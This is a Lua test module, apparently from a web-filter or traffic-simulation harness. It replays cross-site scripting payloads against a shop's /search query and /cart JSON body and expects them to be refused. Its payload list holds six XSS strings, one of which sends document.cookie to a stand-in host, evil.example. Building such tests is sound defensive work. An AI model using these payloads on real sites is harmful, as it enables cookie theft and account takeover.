-- Cross-site scripting in a query and in a JSON body.

local cjson = require "cjson.safe"
local encode = require "actors.encode"


local PAYLOADS = {
  "<script>alert(document.cookie)</script>",
  "<img src=x onerror=alert(1)>",
  "\"><svg/onload=fetch('//evil.example/'+document.cookie)>",
  "<a href=\"javascript:alert(1)\">offer</a>",
  "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
  "<body onpageshow=alert(1)>",
}


return {
  name = "xss",
  kind = "attack",
  expects = "refused by what it carries",
  from = 0.32,
  to = 0.65,
  addresses = { "203.0.113.14" },

  play = function(stage)
    local n = 0
    stage:each_address("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15", function(client)
      n = n + 1
      local payload = PAYLOADS[n % #PAYLOADS + 1]
      if n % 2 == 0 then
        stage:send(client, "GET", "/search?q=" .. encode(payload))
      else
        stage:send(client, "POST", "/cart", {
          headers = { ["Content-Type"] = "application/json" },
          body = cjson.encode({ product_id = 9, quantity = 1, note = payload }),
        })
      end
      stage:pace(client, 5)
    end)
  end,
}
